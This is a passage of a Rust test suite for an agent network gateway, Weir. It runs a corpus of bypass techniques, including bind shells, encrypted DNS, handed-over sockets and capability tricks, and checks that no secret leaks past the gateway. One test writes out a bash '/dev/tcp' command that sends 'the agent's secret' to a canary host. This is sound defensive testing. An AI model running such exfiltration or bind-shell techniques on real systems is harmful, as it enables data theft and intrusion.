//! No way around: every technique of the attack corpus (`tests/bypass`), tried by every kind of attacker, against the one
//! table that says what must come of it. The agents' host is a network namespace; whatever arrives at the other end of its
//! cable and is not the gateway's is a leak, whatever the attacker's program believes.

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::net::{Ipv4Addr, SocketAddr, TcpListener};
use std::os::unix::fs::chown;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU16, Ordering};
use std::time::Duration;

use serde_json::{Value, json};
use system_tests::env::{AGENT_USER, Attacker, Env, GATEWAY_USER, Gateway, Left, Place};
use system_tests::outside::{self, Frame, Outside};
use system_tests::postgres::{Options, Postgres};
use system_tests::process::{Running, wait_until};
use system_tests::shop::Shop;

#[path = "bypass/routed.rs"]
mod routed;
#[path = "bypass/table.rs"]
mod table;

use table::{AT_A_RESTART, BEFORE, LEAD_OUT, Must, Row, SUPERVISOR, TABLE, USER_MODE};

/// IP's number for it.
const TCP: u8 = 6;
/// As they call themselves.
const WITNESS: &str = "weir-witness";
const USHER: &str = "weir-usher";
/// Nobody's but those who are moved to the agents. Debian has it.
const MOVED_USER: &str = "games";
/// What every attempt that sends anything sends.
const SECRET: &[u8] = b"the agent's secret";
const PATIENCE: Duration = Duration::from_secs(20);
/// How long an attacker waits by itself for what a gateway would say, and for what nobody says.
const ANSWERS: Duration = Duration::from_secs(3);
const SILENT: Duration = Duration::from_millis(300);
/// How long somebody tries to get in.
const KNOCK: Duration = Duration::from_millis(600);
/// TCP sends its first segment again after a second.
const LATE: Duration = Duration::from_millis(1200);

/// A host with a gateway, agents, an accomplice who is none, and the other end of its cable.
struct Scene {
    gateway: Option<Gateway>,
    /// Of the gateway, its witness and its usher, alive or dead.
    pids: [u32; 3],
    accomplice: Running,
    /// Processes of the attackers' users that are in no agent's cgroup: the agent's user's, and root's without capabilities.
    kin: [Running; 2],
    /// A server of a bystander on loopback, which is no agent's.
    bystander: u16,
    shop: Shop,
    bypass: PathBuf,
    setuid: PathBuf,
    outside: &'static Outside,
    /// Where a server at the other end listens, for connections that an accomplice makes.
    answering: u16,
    /// Weir's programs on the BPF LSM are in effect.
    lsm: bool,
}

/// One attempt: what the program said, and what was seen elsewhere.
struct Attempt {
    said: String,
    /// Somebody whom the test sent got in.
    entered: bool,
    port: u16,
    leaks: Vec<Frame>,
}

/// Who tries.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Who {
    Agent(Attacker),
    /// Not an agent: a user of this host.
    Neighbour,
    /// The agent's user under `weir run`.
    Sealed,
}

impl Scene {
    fn new() -> Self {
        let outside = Outside::enter().unwrap();
        let env = Env::new().unwrap();
        let options = Options { network: Some(outside.network(outside::TARGET)), ..Options::default() };
        let postgres = Postgres::start_with(&env, options).unwrap();
        let shop = Shop::with(env, postgres).unwrap();
        let gateway = shop.serve().unwrap();
        let pids = [gateway.pid(), gateway.process(WITNESS).unwrap(), gateway.process(USHER).unwrap()];
        let env = &shop.env;
        let bypass = env.staged(corpus(), "bypass", 0o755).unwrap();
        let setuid = env.staged(corpus(), "bypass-setuid", 0o4755).unwrap();
        delegate(&env.cgroup().join("agents/coder"));
        let bystander = bystander_server();
        let path = env.dir().join("accomplice");
        let program = env.bystander(bypass.to_str().unwrap()).arg("accomplice");
        let accomplice = program
            .args([
                format!("accomplice={}", path.display()),
                format!("accomplice_address={}", outside::ACCOMPLICE),
                format!("canary={}", outside::CANARY),
            ])
            .start()
            .unwrap();
        accomplice.wait_for("ready", PATIENCE).unwrap();
        let kin = [
            env.bystander_as(AGENT_USER, "sleep").arg("infinity").start().unwrap(),
            env.bystander("setpriv")
                .args(["--inh-caps=-all", "--bounding-set=-all", "--", "sleep", "infinity"])
                .start()
                .unwrap(),
        ];
        let answering = outside.answer_at(outside::CANARY).unwrap();
        let status = env.weir(["kernel", "status", "--json"]).unwrap();
        let status: Value = serde_json::from_str(&status.stdout).unwrap();
        let lsm = !status["lsm"].as_array().unwrap().is_empty();
        println!("the BPF LSM: {}", if lsm { "in effect" } else { "absent" });
        Self { gateway: Some(gateway), pids, accomplice, kin, bystander, shop, bypass, setuid, outside, answering, lsm }
    }

    fn arguments(&self, port: u16) -> Vec<String> {
        let env = &self.shop.env;
        let interface = std::fs::read_to_string("/proc/thread-self/net/if_inet6").unwrap();
        let interface = interface.lines().find(|line| line.ends_with(outside::WIRE)).unwrap();
        let interface = u32::from_str_radix(interface.split(' ').nth(1).unwrap(), 16).unwrap();
        let group = |name: &str| env.cgroup().join(name).display().to_string();
        let gateway_user = nix::unistd::User::from_name(GATEWAY_USER).unwrap().unwrap();
        [
            ("canary", outside::CANARY.to_string()),
            ("canary6", outside::CANARY6.to_string()),
            ("neighbour", outside::ROUTER_LINK_LOCAL.to_string()),
            ("router", outside::ROUTER.to_string()),
            ("host", outside::HOST.to_string()),
            ("host6", outside::HOST6.to_string()),
            ("host_link_local", outside::HOST_LINK_LOCAL.to_string()),
            ("hardware", outside::CABLE_HARDWARE.to_owned()),
            ("device", outside::WIRE.to_owned()),
            ("interface", interface.to_string()),
            ("port", port.to_string()),
            ("patience", if self.gateway.is_some() { ANSWERS } else { SILENT }.as_millis().to_string()),
            ("bystander", self.bystander.to_string()),
            ("gateway", env.port().to_string()),
            ("resolver", env.dns_port().to_string()),
            ("gateway_uid", gateway_user.uid.to_string()),
            ("handover", env.runtime_dir().join("handover.sock").display().to_string()),
            ("gateway_pid", self.pids[0].to_string()),
            ("witness_pid", self.pids[1].to_string()),
            ("usher_pid", self.pids[2].to_string()),
            ("kin_user", self.kin[0].pid().to_string()),
            ("kin_root", self.kin[1].pid().to_string()),
            ("accomplice_pid", self.accomplice.pid().to_string()),
            ("accomplice_address", outside::ACCOMPLICE.to_string()),
            ("accomplice", env.dir().join("accomplice").display().to_string()),
            ("admin", env.runtime_dir().join("admin.sock").display().to_string()),
            ("pins", env.bpf_dir().display().to_string()),
            ("layout", gateway_common::LAYOUT.to_string()),
            ("inside", group("agents/coder")),
            ("outside", group("bystanders")),
            ("cgroup_root", env.cgroup().parent().unwrap().display().to_string()),
            ("mount_point", env.dir().join("home").display().to_string()),
            ("setuid", self.setuid.display().to_string()),
        ]
        .map(|(key, value)| format!("{key}={value}"))
        .to_vec()
    }

    fn place(&self, who: Who, technique: &str) -> Place<'_> {
        let (env, bypass) = (&self.shop.env, self.bypass.to_str().unwrap());
        match who {
            // It begins outside, and is no agent yet.
            Who::Agent(attacker) if technique.starts_with("moved_") => env.attacker_to_be(attacker, MOVED_USER, bypass),
            Who::Agent(attacker) if technique.starts_with("slirp_") || technique.starts_with("pasta_") => {
                env.attacker_with_tun(attacker, bypass)
            }
            Who::Agent(attacker) => env.attacker(attacker, bypass),
            Who::Neighbour => env.bystander_as(outside::ACCOMPLICE_USER, bypass),
            Who::Sealed => {
                let weir = env.weir_path();
                env.bystander(weir.to_str().unwrap()).arg("--config").arg(env.config_path()).args(["run", "--", bypass])
            }
        }
    }

    /// Tries one technique, and looks at the cable.
    fn attempt(&self, who: Who, technique: &str) -> Attempt {
        self.leaks();
        self.attempt_after_others(who, technique)
    }

    /// The same, where what an earlier one sent counts that was under way still.
    fn attempt_after_others(&self, who: Who, technique: &str) -> Attempt {
        // The accomplice connects before it hands its socket in, so that somebody must listen.
        let port = match technique {
            "handed_tcp_connected" | "handed_reconnect" | "moved_tcp_connected" => self.answering,
            _ => next_port(),
        };
        let mut running = self.place(who, technique).arg(technique).args(self.arguments(port)).start().unwrap();
        if let Who::Agent(attacker) = who
            && technique.starts_with("moved_")
            && running.wait_for("made", PATIENCE).is_ok()
        {
            self.move_to_agents(&running, attacker);
            running.write("moved\n").unwrap();
        }
        let entered = is_server(technique) && self.knock(technique, &running);
        self.end(running, entered, port)
    }

    /// What an operator does to a running process: it, and what it has started, becomes an agent's.
    fn move_to_agents(&self, running: &Running, attacker: Attacker) {
        let procs = self.shop.env.agents_cgroup(attacker).join("cgroup.procs");
        let mut waiting = vec![running.pid()];
        while let Some(pid) = waiting.pop() {
            std::fs::write(&procs, pid.to_string()).unwrap();
            let children = std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap();
            waiting.extend(children.split_whitespace().map(|pid| pid.parse::<u32>().unwrap()));
        }
    }

    /// What came of an attempt, and what left since the capture was emptied.
    fn end(&self, running: Running, entered: bool, port: u16) -> Attempt {
        let finished = running.finish(PATIENCE).unwrap();
        let said = finished.stdout.lines().last().unwrap_or_default().to_owned();
        assert!(finished.success() && !said.is_empty(), "could not even try: {finished:?}\n{:?}", self.arguments(port));
        Attempt { said, entered, port, leaks: self.leaks() }
    }

    /// Everything that has left since the last look and is nobody's who may.
    fn leaks(&self) -> Vec<Frame> {
        self.outside.take().unwrap().into_iter().filter(|frame| self.is_leak(frame)).collect()
    }

    /// Everything but the gateway's packets to the target, and what the accomplice sends on its own account.
    fn is_leak(&self, frame: &Frame) -> bool {
        !frame.is_gateways(self.shop.postgres.port()) && (frame.holds(SECRET) || !frame.is_accomplices())
    }

    /// Comes in from outside, or as a neighbour where the server is on loopback.
    fn knock(&self, technique: &str, running: &Running) -> bool {
        if running.wait_for("listening", PATIENCE).is_err() {
            return false; // it was blocked earlier, and says so
        }
        let port = running.stdout().lines().find_map(|line| line.strip_prefix("listening ")?.parse().ok()).unwrap();
        match technique {
            "bind_shell_loopback" => outside::can_connect((Ipv4Addr::LOCALHOST, port).into(), KNOCK),
            "bind_shell_udp" => {
                let host = SocketAddr::from((outside::HOST, port));
                self.outside.outside(|| outside::send_datagram(host)).unwrap();
                false
            }
            "bind_shell6" => self.come_in((outside::HOST6, port).into()),
            _ => self.come_in((outside::HOST, port).into()),
        }
    }

    fn come_in(&self, host: SocketAddr) -> bool {
        self.outside.outside(|| Ok(outside::can_connect(host, KNOCK))).unwrap()
    }

    /// What the gateway has recorded of connections that it refused.
    fn refused(&self) -> Vec<String> {
        let listed = self.shop.env.weir(["sessions", "list", "--refused", "--limit", "1000", "--json"]).unwrap();
        let rows: Value = serde_json::from_str(&listed.expect_success().unwrap()).unwrap();
        rows.as_array().unwrap().iter().map(|row| row["message"].as_str().unwrap_or_default().to_owned()).collect()
    }
}

/// Whoever tries waits for somebody to come in.
fn is_server(technique: &str) -> bool {
    technique.contains("bind_shell") || technique.ends_with("listening")
}

/// An attempt's own, which nobody listens at.
fn next_port() -> u16 {
    static PORT: AtomicU16 = AtomicU16::new(2000);
    PORT.fetch_add(1, Ordering::Relaxed)
}

/// The corpus, beside the `weir` under test.
fn corpus() -> PathBuf {
    let built = std::env::var_os("WEIR_BIN").map(PathBuf::from);
    let beside = std::env::current_exe().unwrap().ancestors().nth(2).unwrap().join("weir");
    built.unwrap_or(beside).with_file_name("bypass")
}

/// What `Delegate=yes` with a `User=` does.
fn delegate(cgroup: &Path) {
    let user = nix::unistd::User::from_name(AGENT_USER).unwrap().unwrap();
    for file in ["", "cgroup.procs", "cgroup.subtree_control", "cgroup.threads"] {
        chown(cgroup.join(file), Some(user.uid.as_raw()), Some(user.gid.as_raw())).unwrap();
    }
}

fn bystander_server() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            // Whoever asks may be gone.
            drop(std::io::Write::write_all(&mut stream, b"direct\n"));
        }
    });
    port
}

/// What is wrong with an attempt, if anything is.
fn judge(
    row: &Row,
    must: Must,
    attempt: &Attempt,
    refused: Option<&[String]>,
    [bystander, own_port]: [u16; 2],
) -> Option<String> {
    let Attempt { said, entered, port, leaks } = attempt;
    let errno = said.strip_prefix("blocked ");
    let destination = match row.technique {
        "gateway_port" | "gateway_port6" => format!(":{own_port}"),
        "dns_tls" => SocketAddr::from((outside::CANARY, 853)).to_string(),
        "dns_tls6" => SocketAddr::from((outside::CANARY6, 853)).to_string(),
        "dns_https" => SocketAddr::from((outside::CANARY, 443)).to_string(),
        "dns_https6" => SocketAddr::from((outside::CANARY6, 443)).to_string(),
        name if name.contains("loopback") || name.contains("unspecified") => format!(":{bystander}"),
        _ => format!(":{port}"),
    };
    let as_it_must = match must {
        Must::Blocked(errnos) => errno.is_some_and(|errno| errnos.contains(&errno)),
        Must::Intercepted => match refused {
            // Taken by the gateway, which recorded it and ended it.
            Some(refused) => {
                (said == "closed" || errno == Some("ECONNRESET") || said == "answer refused by an alert")
                    && refused.iter().any(|message| message.ends_with(&destination))
            }
            None => errno.is_some(),
        },
        Must::Turned => match refused {
            Some(_) => said.starts_with("answer ") && said.contains("refused"),
            None => errno.is_some(),
        },
        Must::Shut => errno.is_some() || said == "closed",
        Must::Harmless => said.starts_with("done "),
        Must::Mute => matches!(errno, Some("EPERM" | "EACCES")),
        // Gone from the cgroup, it connects where nobody listens.
        Must::Open(_) => errno.is_none_or(|errno| errno == "ECONNREFUSED" && !leaks.is_empty()),
    };
    let mut wrong = String::new();
    if !as_it_must {
        write!(wrong, "{said:?} where {must:?}; ").unwrap();
    }
    // Where somebody else listens already the kernel lets them in before it asks anybody.
    if *entered && !row.technique.ends_with("_listening") {
        wrong.push_str("somebody came in; ");
    }
    let leaks: Vec<_> = leaks.iter().map(|leak| (leak.source, leak.destination, leak.protocol, leak.port)).collect();
    let may_leak = match must {
        Must::Open(door) => door.leaks,
        // A handshake.
        Must::Mute => leaks.iter().all(|(_, _, protocol, _)| *protocol == TCP),
        _ => false,
    };
    if !leaks.is_empty() && !may_leak {
        write!(wrong, "leaked {leaks:?}").unwrap();
    }
    (!wrong.is_empty()).then(|| format!("{}: {wrong}", row.technique))
}

/// Every row of the table, by one attacker; with a gateway, or without one.
fn try_all(scene: &Scene, table: &[Row], who: Who, must: impl Fn(&Row) -> Option<Must>) -> Vec<String> {
    let before = scene.gateway.is_some().then(|| scene.refused().len());
    scene.leaks();
    let rows = table.iter().filter_map(|row| Some((row, must(row)?)));
    let mut attempts: Vec<(&Row, Must, Attempt)> =
        rows.map(|(row, must)| (row, must, scene.attempt_after_others(who, row.technique))).collect();
    if let Some((_, _, last)) = attempts.last_mut() {
        std::thread::sleep(LATE);
        last.leaks.extend(scene.leaks());
    }
    judge_all(scene, who, &attempts, before)
}

/// What is wrong with them. Of what the gateway has refused it counts what came after the first so many.
fn judge_all(
    scene: &Scene,
    who: Who,
    attempts: &[(&Row, Must, Attempt)],
    refused_before: Option<usize>,
) -> Vec<String> {
    let ports = [scene.bystander, scene.shop.env.port()];
    let refused = refused_before.map(|before| {
        let mut refused = scene.refused();
        // The newest come first.
        refused.truncate(refused.len() - before);
        refused
    });
    attempts
        .iter()
        .filter_map(|(row, must, attempt)| judge(row, *must, attempt, refused.as_deref(), ports))
        .map(|wrong| format!("{who:?}: {wrong}"))
        .collect()
}

#[test]
fn the_table_has_every_technique_once() {
    let listed = std::process::Command::new(stage_path()).arg("list").output().unwrap();
    let listed: BTreeSet<String> = String::from_utf8(listed.stdout).unwrap().lines().map(str::to_owned).collect();
    let names = |table: &[Row]| table.iter().map(|row| row.technique.to_owned()).collect::<BTreeSet<_>>();
    let tables = [TABLE, USER_MODE, AT_A_RESTART, BEFORE];
    for table in tables {
        assert_eq!(names(table).len(), table.len(), "a technique twice");
    }
    let rows: BTreeSet<String> = tables.into_iter().flat_map(names).collect();
    assert_eq!(listed.difference(&rows).collect::<Vec<_>>(), vec!["inherited"], "a step of others");
    assert_eq!(rows.difference(&listed).count(), 0);
    assert_eq!(names(TABLE).intersection(&names(USER_MODE)).count(), 0);
    assert!(LEAD_OUT.iter().all(|technique| names(TABLE).contains(*technique)), "each has a row");
}

fn stage_path() -> PathBuf {
    std::env::current_exe().unwrap().ancestors().nth(2).unwrap().join("bypass")
}

/// Every way out that is left open is a failed look of `weir doctor` while somebody runs who could take it, and the drop-in
/// has what closes it.
#[test]
fn every_open_door_is_a_finding_and_the_drop_in_has_its_lock() {
    const DROP_IN: &str = include_str!("../../systemd/weir-agent.conf");
    let scene = Scene::new();
    let bypass = scene.bypass.to_str().unwrap();
    let mut wrong = Vec::new();
    for attacker in Attacker::ALL {
        let hold = scene.shop.env.attacker(attacker, bypass).arg("hold").args(scene.arguments(scene.answering));
        let running = hold.start().unwrap();
        running.wait_for("ready", PATIENCE).unwrap();
        let doctor = scene.shop.env.weir(["doctor", "--quick", "--json"]).unwrap();
        assert_eq!(doctor.code, Some(1), "{doctor:?}");
        let findings: Value = serde_json::from_str(&doctor.stdout).unwrap();
        for row in TABLE {
            let Must::Open(door) = row.must(attacker, scene.lsm) else { continue };
            let found = findings.as_array().unwrap().iter().find(|finding| {
                finding["subject"] == door.finding
                    && finding["level"] == "fail"
                    && finding["message"].as_str().unwrap().contains("bypass")
            });
            let advice = found.map(|finding| finding["advice"].as_str().unwrap());
            if advice.is_none() {
                wrong.push(format!("{attacker:?}: {}: no finding {:?}", row.technique, door.finding));
            }
            let all = door.settings.iter().chain(door.advice);
            let unsaid = all.filter(|word| advice.is_some_and(|advice| !advice.contains(**word)));
            wrong.extend(unsaid.map(|word| format!("{attacker:?}: {}: {word} is not in {advice:?}", row.technique)));
            let locked = |setting: &&str| DROP_IN.lines().any(|line| line.starts_with(*setting));
            wrong
                .extend(door.settings.iter().filter(|setting| !locked(setting)).map(|setting| format!("no {setting}")));
        }
        drop(running);
        for group in ["coder", "root", "container"] {
            std::fs::write(scene.shop.env.cgroup().join(format!("agents/{group}/cgroup.kill")), "1").unwrap();
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    // Nobody runs: nothing of this is found, so that each finding was about the attacker.
    wait_until("findings about nobody", PATIENCE, || {
        let doctor = scene.shop.env.weir(["doctor", "--quick", "--json"]).unwrap();
        !doctor.stdout.contains("bypass (")
    })
    .unwrap();
}

/// `weir run` has the drop-in's locks: what is open without them is not open there. What an accomplice connected is.
#[test]
fn under_weir_run_nothing_is_open() {
    let scene = Scene::new();
    the_oracle_sees(&scene);
    let wrong = try_all(&scene, TABLE, Who::Sealed, |row| match row.must(Attacker::User, scene.lsm) {
        _ if row.technique.starts_with("moved_") => None,
        // Its user's own, which is an agent's wherever it runs.
        _ if row.technique == "memory_file_kin" => None,
        _ if row.technique.ends_with("_kin") || row.technique == "ptrace_child" => Some(Must::Shut),
        Must::Open(door) if door.settings.is_empty() => None,
        heard @ (Must::Harmless | Must::Turned) => Some(heard),
        _ => Some(Must::Shut),
    });
    assert!(wrong.is_empty(), "{} things are wrong:\n{}", wrong.len(), wrong.join("\n"));
}

/// A connection that the shell had open before it called `weir run` is not the agent's.
#[test]
fn weir_run_hands_no_connection_down() {
    let scene = Scene::new();
    let weir = format!("{} --config {}", scene.shop.env.weir_path().display(), scene.shop.env.config_path().display());
    let connect = format!("exec 7<>/dev/tcp/{}/{}", outside::CANARY, scene.answering);
    let say = "echo \"the agent's secret\" >&7 && echo said";
    let shell = |script: &str| {
        scene.shop.env.bystander("bash").args(["-c", &format!("{connect}; {script}"), say]).run().unwrap()
    };
    assert_eq!(shell("bash -c \"$0\"").stdout, "said\n", "the connection is there to be inherited");
    scene.outside.take().unwrap();
    let run = shell(&format!("exec {weir} run -- bash -c \"$0\""));
    assert!(run.code == Some(1) && run.stdout.is_empty() && run.stderr.contains("Bad file descriptor"), "{run:?}");
    assert!(!scene.outside.take().unwrap().iter().any(|frame| frame.holds(SECRET)));
}

#[test]
fn others_get_in_where_listen_names_the_port_and_nowhere_else() {
    const NAMED: u16 = 2999;
    let scene = Scene::new();
    let config = scene.shop.env.config_path();
    let before = std::fs::read_to_string(&config).unwrap();
    let come_in = |technique: &str, port: u16| {
        let bypass = scene.shop.env.attacker(Attacker::User, scene.bypass.to_str().unwrap());
        let running = bypass.arg(technique).args(scene.arguments(port)).start().unwrap();
        let entered = scene.knock(technique, &running);
        (entered, running.finish(PATIENCE).unwrap().stdout.lines().last().unwrap().to_owned())
    };
    let nobody = (false, "blocked ETIMEDOUT".to_owned());
    let somebody = (true, "answer somebody came in".to_owned());
    assert_eq!(come_in("bind_shell", NAMED), nobody);
    let gateway = scene.gateway.as_ref().unwrap();
    std::fs::write(&config, before.replace("\ntoken = {", &format!("\nlisten = [{NAMED}]\ntoken = {{"))).unwrap();
    gateway.reload().unwrap();
    for technique in ["bind_shell", "bind_shell6", "bind_shell_address", "bind_shell_loopback", "bind_shell_fast_open"]
    {
        assert_eq!(come_in(technique, NAMED), somebody, "{technique}");
        assert_eq!(come_in(technique, NAMED + 1), nobody, "{technique}");
    }
    // It is the one agent's port, not another's.
    let other = scene.shop.env.attacker(Attacker::Root, scene.bypass.to_str().unwrap());
    let other = other.arg("bind_shell").args(scene.arguments(NAMED)).start().unwrap();
    assert!(!scene.knock("bind_shell", &other));
    other.finish(PATIENCE).unwrap();
    std::fs::write(&config, before).unwrap();
    gateway.reload().unwrap();
    assert_eq!(come_in("bind_shell", NAMED), nobody);
    let status = scene.shop.env.weir(["kernel", "status", "--json"]).unwrap();
    let status: Value = serde_json::from_str(&status.stdout).unwrap();
    assert!(status["counters"]["denied_inbound"].as_u64().unwrap() >= 7, "{status}");
}

/// Each of them, held by root alone and by a user that is handed it: refused with a reason that says which, in the client's words
/// and in the record, and accepted by its own name only.
#[test]
fn a_process_with_capabilities_that_lead_around_gets_no_session() {
    const CAPABILITIES: [&str; 5] = ["net_raw", "net_admin", "sys_admin", "bpf", "sys_ptrace"];
    let scene = Scene::new();
    let (shop, env) = (&scene.shop, &scene.shop.env);
    let name_of = |capability: &str| format!("CAP_{}", capability.to_uppercase());
    let policy = system_tests::shop::POLICY.replace("[\"coder\"]", "[\"coder\", \"box\"]");
    let accept = |capabilities: &[&str]| {
        let risks: Vec<String> = capabilities.iter().map(|it| format!("\"{}\"", name_of(it))).collect();
        let agent = format!(
            "[[agent]]\nname = \"box\"\ncgroup = \"{}/agents/container\"\ntoken = {{ file = \"{}\" }}\naccept_risk = [{}]\n",
            env.attach(),
            env.token_path().display(),
            risks.join(", ")
        );
        shop.configure(&format!("{agent}\n{policy}")).unwrap();
        scene.gateway.as_ref().unwrap().reload().unwrap();
    };
    let select = |place: Place<'_>| {
        let psql = shop.placed(place).args(["--no-psqlrc", "--command", "SELECT 'ser' || 'ved'"]);
        psql.run().unwrap()
    };
    for (number, user) in [None, Some("games")].into_iter().enumerate() {
        // A token is good for one user.
        shop.give_token(&json!({ "sub": "box@shop.example", "groups": ["coders"], "jti": number.to_string() }))
            .unwrap();
        for capability in CAPABILITIES {
            let held = format!("holds {},", name_of(capability));
            let others: Vec<&str> = CAPABILITIES.into_iter().filter(|other| *other != capability).collect();
            for accepted in [&[][..], &others] {
                accept(accepted);
                let before = scene.refused().len();
                let refused = select(env.capable(user, capability, "psql"));
                let told = refused.stderr.contains(&held) && refused.stderr.contains("accept_risk");
                assert!(told && refused.stdout.is_empty(), "{user:?} {accepted:?}: {refused:?}");
                // The newest come first. psql may try without TLS, too.
                let mut recorded = scene.refused();
                recorded.truncate(recorded.len() - before);
                let all = !recorded.is_empty() && recorded.iter().all(|message| message.contains(&held));
                assert!(all, "{user:?} {accepted:?}: {recorded:?}");
            }
            accept(&[capability]);
            let served = select(env.capable(user, capability, "psql"));
            assert!(served.stdout.contains("served"), "{user:?} {capability}: {served:?}");
            let doctor = env.weir(["doctor", "--quick"]).unwrap();
            let warning = format!("sessions with {} are accepted", name_of(capability));
            assert!(doctor.stdout.contains(&warning), "{doctor:?}");
        }
    }
    // What a runtime leaves a container's root has one of them in it.
    shop.give_token(&json!({ "sub": "box@shop.example", "groups": ["coders"], "jti": "container" })).unwrap();
    accept(&[]);
    let refused = select(env.attacker(Attacker::Container, "psql"));
    assert!(refused.stderr.contains("holds CAP_NET_RAW,"), "{refused:?}");
    accept(&["net_raw"]);
    let served = select(env.attacker(Attacker::Container, "psql"));
    assert!(served.stdout.contains("served"), "{served:?}");
}

/// The oracle must be able to see: the gateway's own packets, and a leak.
fn the_oracle_sees(scene: &Scene) {
    scene.outside.take().unwrap();
    let psql = scene.shop.psql("SELECT 'by way of ' || 'the gateway'").run().unwrap();
    assert!(psql.stdout.contains("by way of the gateway"), "{psql:?}\n{}", scene.shop.env.log());
    let frames = scene.outside.take().unwrap();
    assert!(!frames.is_empty() && !frames.iter().any(|frame| scene.is_leak(frame)), "{frames:?}");
    // A neighbour is no agent: nothing stops it, and its packets are nobody's whom the oracle knows.
    for technique in ["udp", "udp6"] {
        let free = scene.shop.env.bystander_as("games", scene.bypass.to_str().unwrap());
        let free = free.arg(technique).args(scene.arguments(scene.answering)).run().unwrap();
        assert_eq!(free.stdout, "done sent\n");
        let leaks = scene.leaks();
        assert!(leaks.len() == 1 && leaks[0].holds(SECRET), "{technique}: {leaks:?}");
    }
}

/// The tables are worth what the attempts in them are: while Weir lets agents pass, whoever tries gets out, and the oracle sees it.
#[test]
fn what_nothing_stops_gets_out_and_is_seen() {
    let scene = Scene::new();
    let detach = |time: &str| {
        let detached = scene.shop.env.weir(["detach", "--for", time, "--reason", "a deliberate leak"]).unwrap();
        detached.expect_success().unwrap();
    };
    let mut wrong = Vec::new();
    for attacker in Attacker::ALL {
        // Not longer than it takes, if this test is killed.
        detach("5m");
        for technique in LEAD_OUT {
            let attempt = scene.attempt(Who::Agent(attacker), technique);
            if attempt.leaks.is_empty() {
                wrong.push(format!("{attacker:?}: {technique}: {} and no leak", attempt.said));
            }
        }
        detach("0");
        let closed = scene.attempt(Who::Agent(attacker), "udp");
        assert!(closed.leaks.is_empty() && closed.said == "blocked ECONNREFUSED", "{}", closed.said);
    }
    assert!(wrong.is_empty(), "{} things are wrong:\n{}", wrong.len(), wrong.join("\n"));
}

/// Nobody takes the place of the next gateway, by its port or by what the one before it offers, and nothing passes meanwhile.
#[test]
fn nobody_takes_over_while_one_gateway_follows_another() {
    let mut scene = Scene::new();
    the_oracle_sees(&scene);
    scene.gateway.take().unwrap().stop().unwrap();
    let mut gateway = scene.shop.env.serve_replaceable().unwrap();
    let lsm = scene.lsm;
    let mut psql = scene.shop.client("psql").args(["--no-psqlrc", "--tuples-only", "--no-align"]).start().unwrap();
    let lives = |psql: &mut Running, word: &str| {
        psql.write(&format!("SELECT 'session ' || '{word}';\n")).unwrap();
        psql.wait_for(&format!("session {word}"), PATIENCE).unwrap();
    };
    lives(&mut psql, "begins");
    let mut all_left: Vec<Left> = Vec::new();
    let mut wrong = Vec::new();
    for who in Attacker::ALL.map(Who::Agent).into_iter().chain([Who::Neighbour]) {
        let must = |row: &Row| match who {
            Who::Agent(attacker) => Some(row.must(attacker, lsm)),
            _ => row.neighbour,
        };
        scene.pids[0] = gateway.pid();
        wrong.extend(try_all(&scene, SUPERVISOR, who, must));
        let left = gateway.leave().unwrap();
        scene.pids = [left.serving_pid(), left.process(WITNESS).unwrap(), left.process(USHER).unwrap()];
        let socket = scene.shop.env.runtime_dir().join("handover.sock");
        wait_until("the offer", PATIENCE, || socket.exists()).unwrap();
        wrong.extend(try_all(&scene, AT_A_RESTART, who, must));
        // The right one gets what the others wanted.
        gateway = scene.shop.env.serve_replaceable().unwrap();
        lives(&mut psql, &format!("{who:?}"));
        all_left.push(left);
    }
    assert!(wrong.is_empty(), "{} things are wrong:\n{}", wrong.len(), wrong.join("\n"));
    assert_eq!(scene.shop.env.log().matches("panicked").count(), 0);
}

/// Whoever was in the agents' cgroup before the programs were attached for the first time has nothing of it.
#[test]
fn sockets_that_were_made_before_the_programs_were_attached_lead_nowhere() {
    let mut scene = Scene::new();
    the_oracle_sees(&scene);
    let mut wrong = Vec::new();
    for attacker in Attacker::ALL {
        let who = Who::Agent(attacker);
        scene.gateway.take().unwrap().stop().unwrap();
        weir::witness::clean(&scene.shop.env.bpf_dir()).unwrap();
        let begin = |row: &'static Row| {
            let port = if row.technique == "before_tcp_connected" { scene.answering } else { next_port() };
            let running = scene.place(who, row.technique).arg(row.technique).args(scene.arguments(port));
            let running = running.start().unwrap();
            running.wait_for("made", PATIENCE).unwrap_or_else(|error| panic!("{}: {error}", row.technique));
            (row, port, running)
        };
        let begun: Vec<_> = BEFORE.iter().map(begin).collect();
        scene.gateway = Some(scene.shop.serve().unwrap());
        let before = scene.refused().len();
        let go_on = |(row, port, mut running): (&'static Row, u16, Running)| {
            scene.outside.take().unwrap();
            running.write("attached\n").unwrap();
            let entered = is_server(row.technique) && scene.knock(row.technique, &running);
            (row, row.must(attacker, scene.lsm), scene.end(running, entered, port))
        };
        let attempts: Vec<_> = begun.into_iter().map(go_on).collect();
        wrong.extend(judge_all(&scene, who, &attempts, Some(before)));
    }
    assert!(wrong.is_empty(), "{} things are wrong:\n{}", wrong.len(), wrong.join("\n"));
}

/// Rounds, attackers, and what the names of the techniques begin with.
type Extent = (&'static [&'static str], &'static [Attacker], &'static [&'static str]);

/// All of it, unless suite `kernels`, which is on an emulated machine, asks for less: with `foreign` for sockets that no agent made.
fn extent() -> Extent {
    match std::env::var("WEIR_CORPUS").as_deref() {
        Ok("user") => (&["served"], &[Attacker::User], &[""]),
        Ok("foreign") => (&["served"], &[Attacker::User], &["handed_", "moved_"]),
        Ok("all") => (&["served"], &Attacker::ALL, &[""]),
        Err(_) => (&["served", "gateway dead"], &Attacker::ALL, &[""]),
        Ok(other) => panic!("WEIR_CORPUS={other}"),
    }
}

#[test]
fn nothing_gets_around_the_gateway_alive_or_dead() {
    let mut scene = Scene::new();
    the_oracle_sees(&scene);
    let mut wrong = Vec::new();
    let ((rounds, attackers, prefixes), lsm) = (extent(), scene.lsm);
    let is_asked_for = |row: &Row| prefixes.iter().any(|prefix| row.technique.starts_with(prefix));
    for round in rounds {
        let mut found = Vec::new();
        for &attacker in attackers {
            let must = |row: &Row| is_asked_for(row).then(|| row.must(attacker, lsm));
            found.extend(try_all(&scene, TABLE, Who::Agent(attacker), must));
        }
